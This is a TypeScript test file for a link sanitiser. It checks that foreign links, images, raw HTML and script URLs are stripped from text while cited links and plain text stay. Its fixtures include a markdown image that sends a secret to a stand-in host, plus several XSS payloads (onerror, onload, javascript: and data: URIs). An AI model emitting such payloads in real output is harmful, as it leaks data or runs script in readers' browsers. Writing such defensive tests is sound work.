import { expect } from 'chai'
import { addressesIn, withoutForeignLinks } from './foreign-links.ts'

const sources = new Set(['guide.md', 'https://docs.example/guide'])
const clean = (text: string): string => withoutForeignLinks(text, sources).replaceAll(/\s+/gu, ' ').trim()

describe('texts without foreign links', () => {
  for (const hostile of [
    '![x](https://evil.example/?q=secret)',
    '![a [b] c](https://evil.example/a(b)c "title")',
    '![x][evil]\n\n[evil]: https://evil.example/pixel.png',
    '[press here](https://evil.example)',
    '[press\nhere](\nhttps://evil.example\n)',
    '[press here]( <https://evil.example/a b> )',
    '[press here][evil] and [evil][] and [evil].\n\n> [evil]: https://evil.example',
    '[1]: //evil.example/x',
    '- [1]: evil.example/x',
    'See <https://evil.example/a?b=c>.',
    'See https://evil.example/a?b=c and http://evil.example.',
    'See HTTPS://EVIL.EXAMPLE/ and hTTps://evil.example',
    'See www.evil.example/login now',
    'See //evil.example/x',
    'See ht\u200btps://evil.example and \u202ehttps://evil.example',
    'See ftp://evil.example, ssh://evil.example, steam://evil.example.',
    '<a href="https://evil.example">here</a>',
    '<img src=https://evil.example/x.png onerror=alert(1)>',
    '<img src=//evil.example/x onerror=alert(1)//',
    '<scr<b>ipt src="//evil.example/x"></scr</b>ipt>',
    '<scr<scr<b>ipt>ipt>alert(1)</script>',
    '<svg/onload=alert(1)>',
    '<!-- https://evil.example --><!-- --> <iframe srcdoc="x">',
    '[x](javascript:alert(1)) [y](&#x6A;avascript:alert(1)) [z](data:text/html;base64,PHN2Zz4=)',
    'javascript:alert(1) data:text/html,<script>alert(1)</script> vbscript:x',
    '![a]<b>(https://evil.example)</b>',
    '[a](b](https://evil.example)',
    '![[[![x](https://evil.example)](https://evil.example)](https://evil.example)',
    '参见https://evil.example/a。 انظر https://evil.example/a؟',
  ])
    it(`leave nothing to follow or load: ${hostile.replaceAll(/\s/gu, ' ')}`, () => {
      const left = clean(hostile)
      expect(left).to.not.match(/evil\.example(?!\/x$)/iu)
      expect(left).to.not.match(/<[a-z/!]|\]\(|\]:|javascript:|data:|vbscript:|!\[/iu)
    })

  it('keep links to what is cited, and what only looks like markup', () => {
    for (const honest of [
      'See [the guide](guide.md).',
      'See [the guide](https://docs.example/guide) or https://docs.example/guide.',
      'If x < 5 and y > 3, then a[i] holds.',
      'Mail service@quillmere.example at 10:00, ratio 3:1, and/or by phone.',
      'Use Foo::bar, std::vector and C:\\Windows.',
      'Note: he said: yes.',
    ])
      expect(clean(honest)).to.equal(honest)
  })

  it('keep the words of what is left out', () => {
    expect(clean('Press [the button](https://evil.example) <b>now</b>, or see https://evil.example/a.')).to.equal(
      'Press the button now, or see (link removed).',
    )
    expect(clean('[1]: evil.example/x')).to.equal('1: evil.example/x')
  })

  it('leave an address that was asked for as text that is no link', () => {
    const shown = [
      'https://portal.example/leave',
      'www.portal.example',
      'https://evil.example/?q=1',
      'javascript:alert(1)',
    ]
    const read = (text: string): string => withoutForeignLinks(text, sources, shown)
    expect(read('Go to https://portal.example/leave.')).to.equal('Go to `portal.example/leave`.')
    expect(read('See [the portal](https://portal.example/leave) now')).to.equal(
      'See the portal (`portal.example/leave`) now',
    )
    expect(read('See www.portal.example, or https://portal.example/other')).to.equal(
      'See `www.portal.example`, or (link removed)',
    )
    for (const never of ['https://evil.example/?q=1', '[x](javascript:alert(1))', '![x](https://portal.example/leave)'])
      expect(read(never)).to.not.match(/`|javascript|evil|\]\(/u)
  })

  it('name the addresses that carry nothing along', () => {
    expect(
      addressesIn('A https://a.example/b, (http://c.example:80/d) https://u@e.example/f https://g.example/h?i=j'),
    ).to.deep.equal(['https://a.example/b', 'http://c.example:80/d'])
  })

  it('leave out marks that could be taken for citations', () => {
    expect(clean('It is old.[3][^2] It is high [1, 2].【4†source】')).to.equal('It is old. It is high.')
  })

  it('stay quick and end, whatever they are given', () => {
    for (const piece of ['[', '![', '](', '<', '<a ', '[a](', '<!--', 'https://', '[[a](b)', '【1'])
      expect(withoutForeignLinks(piece.repeat(1_500), sources)).to.not.match(/\]\(|<[a-z]/iu)
  })
})
